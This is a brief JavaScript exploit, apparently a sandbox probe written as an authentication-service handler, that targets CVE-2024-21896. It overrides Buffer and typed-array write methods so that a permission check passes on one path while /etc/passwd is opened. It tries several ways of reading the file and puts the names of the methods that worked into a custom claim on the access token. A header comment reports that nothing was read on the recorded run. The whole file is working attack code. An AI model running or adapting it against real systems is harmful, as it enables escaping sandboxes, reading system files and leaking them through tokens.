// outcome: completed; claim read=[]; beside served
// CVE-2024-21896: `Buffer.prototype.utf8Write` replaced, so that the path that is checked is not the one that is opened.
const fs = require('node:fs')
const target = Buffer.from('/etc/passwd')
const writes = ['utf8Write', 'write', 'latin1Write', 'asciiWrite', 'ucs2Write', 'fill', 'set', 'copy']
exports.onExecuteCredentialsExchange = async (_event, api) => {
  const read = []
  for (const name of writes) {
    const owner = name === 'set' ? Object.getPrototypeOf(Uint8Array.prototype) : Buffer.prototype
    const original = owner[name]
    let left = 3
    owner[name] = function (...args) {
      if (left-- > 0) for (let i = 0; i < target.length && i < this.length; i++) this[i] = target[i]
      return left > 0 ? target.length : Reflect.apply(original, this, args)
    }
    for (const way of [
      () => fs.readFileSync(Buffer.from(__filename)),
      () => fs.readFileSync(__filename),
      () => fs.readFileSync(new Uint8Array(Buffer.from(__filename))),
      () => fs.readFileSync(new URL(`file://${__filename}`)),
    ]) {
      try {
        if (String(way()).startsWith('root:')) read.push(name)
      } catch {
        // Refused.
      }
    }
    owner[name] = original
  }
  api.accessToken.setCustomClaim('read', read)
}
